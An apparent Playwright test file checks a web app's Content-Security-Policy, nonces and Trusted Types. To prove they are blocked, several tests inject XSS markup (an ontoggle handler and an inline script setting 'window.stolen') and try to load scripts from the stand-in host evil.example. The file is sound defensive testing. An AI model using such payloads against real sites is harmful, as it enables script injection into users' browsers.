/** The pages live under their own Content-Security-Policy: nothing they do is refused, and it forbids what it should. */
import { continueAs, newIdentity, openGoogle, way } from "./stack/providers.ts";
import { expect, type Page, test } from "./stack/test.ts";

const watchViolations = (page: Page) =>
  page.addInitScript(`
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) =>
      window.violations.push(event.violatedDirective + " " + event.blockedURI));
  `);

const violationsOf = (page: Page) => page.evaluate<string[]>("window.violations");

test("nothing on the pages of a guest is refused", async ({ page }) => {
  await watchViolations(page);
  for (const path of [
    "/login",
    "/home",
    "/privacy-policy",
    "/redirect",
    "/forgot-password",
    "/external/login",
    "/profile",
  ]) {
    await page.goto(path);
    await expect(page.getByRole("heading").first()).toBeVisible();
    await page.waitForLoadState("networkidle");
    expect([path, await violationsOf(page)]).toEqual([path, []]);
  }
});

test("nothing is refused to a player, dialog, notices and receipt included", async ({
  page,
  newPlayer,
  logIn,
  balanceOf,
}) => {
  await watchViolations(page);
  const player = await newPlayer();
  const balance = await balanceOf(player);
  await balance.receives(2000_00n);
  const reference = await balance.pays(12_50n, { description: "Move Iron Meridian", subGroup: "FEE" });
  await logIn(page, player);
  await page.goto("/profile");
  await page.getByRole("link", { name: "Edit profile" }).click();
  await page.getByLabel("First name").fill("Ivy");
  await page.getByRole("button", { name: "Save" }).click();
  await expect(page.getByRole("dialog")).toContainText("Success!");
  expect(await violationsOf(page)).toEqual([]);
  const paths = ["/security", "/staking", "/deposit", "/buy", "/deposit-assets", `/transactions?receipt=${reference}`];
  for (const path of paths) {
    await page.goto(path);
    await expect(page.getByRole("heading").first()).toBeAttached();
    await page.waitForLoadState("networkidle");
    expect([path, await violationsOf(page)]).toEqual([path, []]);
  }
});

test("[ROUTE-24] mallory's markup runs nothing, and a nonce is never used twice", async ({ page }) => {
  await watchViolations(page);
  const markup = `<details open ontoggle="window.stolen = true">x</details><script>window.stolen = true</script>`;
  await page.route("/login", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace("</body>", `${markup}</body>`) });
  });
  await page.goto("/login");
  await expect(page.locator("details[ontoggle]")).toBeVisible();
  await expect
    .poll(async () => (await violationsOf(page)).toSorted())
    .toEqual(["script-src-attr inline", "script-src-elem inline"]);
  expect(await page.evaluate("window.stolen")).toBeUndefined();
  await page.unroute("/login");

  const nonces = new Set<string>();
  for (let visit = 0; visit < 3; visit++) {
    const answer = await page.request.get("/login", { headers: { accept: "text/html" } });
    const nonce = /'nonce-([^']+)'/.exec(answer.headers()["content-security-policy"] ?? "")?.[1] ?? "";
    expect(await answer.text()).toContain(`nonce="${nonce}"`);
    nonces.add(nonce);
  }
  expect(nonces.size).toBe(3);
});

/** Runs after the evaluation that starts it: inside one, the browser's tools may do what the page may not. */
const tryLater = (page: Page, code: string) =>
  page.evaluate<string>(`new Promise((resolve) => setTimeout(() => {
    try { ${code}; resolve("done"); } catch (error) { resolve(error.name); }
  }))`);

test("[ROUTE-26] a page makes no script, markup or code out of a string", async ({ page, newPlayer, logIn }) => {
  const attempts = [
    'document.createElement("script").src = "https://evil.example/x.js"',
    'document.createElement("script").src = "/assets/x.js"',
    'document.createElement("script").text = "1"',
    'document.body.innerHTML = "<b>x</b>"',
    'new Worker("/sw.js")',
    'trustedTypes.createPolicy("mallory", { createHTML: (text) => text })',
  ];
  const tryAll = async (path: string) => {
    await page.goto(path);
    await expect(page.getByRole("heading").first()).toBeVisible();
    await page.waitForLoadState("networkidle");
    for (const attempt of attempts) {
      expect([path, attempt, await tryLater(page, attempt)]).toEqual([path, attempt, "TypeError"]);
    }
    expect([path, await tryLater(page, 'eval("1")')]).toEqual([path, "EvalError"]);
  };
  for (const path of ["/login", "/home"]) await tryAll(path);
  await logIn(page, await newPlayer());
  await tryAll("/profile");
  // The login's own policy for providers' scripts has no place here.
  const ofTheLogin = 'trustedTypes.createPolicy("provider-script", { createScriptURL: (url) => url })';
  expect(await tryLater(page, ofTheLogin)).toBe("TypeError");
});

test("[ROUTE-26] after a provider's script only that provider's scripts can follow", async ({ page, stack }) => {
  await page.goto("/login");
  await way(page, "Google").click();
  await expect(page.getByRole("button", { name: "Continue with Google" })).toBeVisible();
  const load = (url: string) => tryLater(page, `document.createElement("script").src = "${url}"`);
  expect(await load("https://evil.example/x.js")).toBe("TypeError");
  expect(await load(`${stack.providers.google}/gsi/client`)).toBe("done");

  // An address that the server did not write into the document is no provider's script, whatever a call says.
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).hostname));
  await page.route("**/api/auth/ways", async (route) => {
    const response = await route.fetch();
    const text = await response.text();
    await route.fulfill({ response, body: text.replaceAll(stack.providers.google, "https://evil.example") });
  });
  await page.reload();
  await way(page, "Google").click();
  await expect(page.getByRole("alert")).toHaveText("Couldn't connect to Google: script_not_loaded");
  expect(asked).not.toContain("evil.example");
});

test("[ROUTE-25] providers' origins are in the login's document alone, and none of their scripts goes on to a player's page", async ({
  page,
  db,
  newPlayer,
  stack,
}) => {
  await watchViolations(page);
  const policies: string[] = [];
  page.on("response", (response) => {
    if (response.request().resourceType() === "document")
      policies.push(
        `${new URL(response.url()).pathname} ${response.headers()["content-security-policy"]?.includes(stack.providers.google)}`,
      );
  });
  const { email, password, username } = await newPlayer();
  await page.goto("/home");
  await page.getByRole("link", { name: "Login" }).click();
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Password", { exact: true }).fill(password);
  // The fingerprint's library sets a string, which its page lets through.
  await expect.poll(() => page.evaluate('performance.getEntriesByName("fingerprint").length')).toBeGreaterThan(0);
  expect(await violationsOf(page)).toEqual([]);
  await page.getByRole("button", { name: "Sign In" }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Mara Voss");
  // The login goes on in its document: it holds no script of a provider.
  expect(policies).toEqual(["/home false", "/login true"]);
  await page.reload();
  await page.getByRole("link", { name: "Transactions" }).first().click();
  await expect(page).toHaveURL("/transactions");
  expect(policies.splice(0)).toEqual(["/home false", "/login true", "/profile false"]);

  const identity = newIdentity();
  const { id } = await db.selectFrom("users").select("id").where("username", "=", username).executeTakeFirstOrThrow();
  await db.insertInto("identities").values({ provider: "google", subject: identity.subject, user_id: id }).execute();
  await page.context().clearCookies();
  await page.goto("/login");
  await continueAs(await openGoogle(page), identity);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("Mara Voss");
  expect(policies.filter((policy) => /^.(login|profile)/.test(policy))).toEqual(["/login true", "/profile false"]);
  expect(await page.evaluate("typeof globalThis.google")).toBe("undefined");
});
